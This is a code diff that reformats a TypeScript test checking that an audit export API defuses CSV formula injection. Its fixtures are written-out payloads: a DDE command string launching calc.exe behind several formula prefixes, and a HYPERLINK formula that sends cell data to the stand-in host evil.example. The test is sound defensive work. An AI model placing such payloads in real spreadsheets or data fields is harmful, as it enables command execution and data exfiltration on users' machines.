@@ -12,7 +12,15 @@ const EXPORTS = ["/api/v1/platform/audit/export"];
 const HARM = "cmd|' /C calc'!A0";
 const FORMULAS = [
   ...["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", " =", "'=", '"='].map((start) => `${start}${HARM}`),
-  ...[`x;=${HARM}`, `x,=${HARM}`, `x;"=${HARM}`, `x, +${HARM}`, `=HYPERLINK("http://evil.example/?"&A1,"more")`, `x;@SUM(A1)`, `x;;-${HARM}`],
+  ...[
+    `x;=${HARM}`,
+    `x,=${HARM}`,
+    `x;"=${HARM}`,
+    `x, +${HARM}`,
+    `=HYPERLINK("http://evil.example/?"&A1,"more")`,
+    `x;@SUM(A1)`,
+    `x;;-${HARM}`,
+  ],
   `@SUM(1+1)*${HARM}`,
 ];
 
@@ -23,7 +31,11 @@ beforeAll(async () => {
   signed = { authorization: `Bearer ${made.stdout.trim()}` };
   for (const [index, text] of FORMULAS.entries()) {
     const add = (path: string, body: unknown) =>
-      fetch(server.url + path, { method: "POST", headers: { ...signed, "content-type": "application/json" }, body: JSON.stringify(body) });
+      fetch(server.url + path, {
+        method: "POST",
+        headers: { ...signed, "content-type": "application/json" },
+        body: JSON.stringify(body),
+      });
     const target = { name: text, project: text, host: "127.0.0.1", port: index + 1, login: text, isEnabled: false };
     expect([text, (await add("/api/v1/cccp/servers", target)).status]).toEqual([text, 201]);
     const token = { name: `${text.slice(0, 55)} ${index}`, role: "viewer", expiresAt: null };
@@ -65,7 +77,9 @@ function cellsOf(text: string, separator: string): string[] {
 /** Cells that a spreadsheet would run; a negative number is none. */
 function formulasIn(text: string): string[] {
   return [",", ";", "\t"].flatMap((separator) =>
-    cellsOf(text.replace(/^\ufeff/, ""), separator).filter((cell) => /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+$/.test(cell)),
+    cellsOf(text.replace(/^\ufeff/, ""), separator).filter(
+      (cell) => /^[\s"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+$/.test(cell),
+    ),
   );
 }
 
@@ -81,7 +95,9 @@ test.each(EXPORTS)("no cell of %s is a formula, whatever it is read with", async
     expect(text).toContain("calc");
     expect([query, formulasIn(text)]).toEqual([query, []]);
     // Nothing is lost by it: each text is there, behind its apostrophe at most.
-    const cells = cellsOf(text, query.includes(";") ? ";" : ",").join("\n").replaceAll("'", "");
+    const cells = cellsOf(text, query.includes(";") ? ";" : ",")
+      .join("\n")
+      .replaceAll("'", "");
     for (const formula of FORMULAS) expect(cells).toContain(formula.replaceAll("'", "").trim());
   }
 });
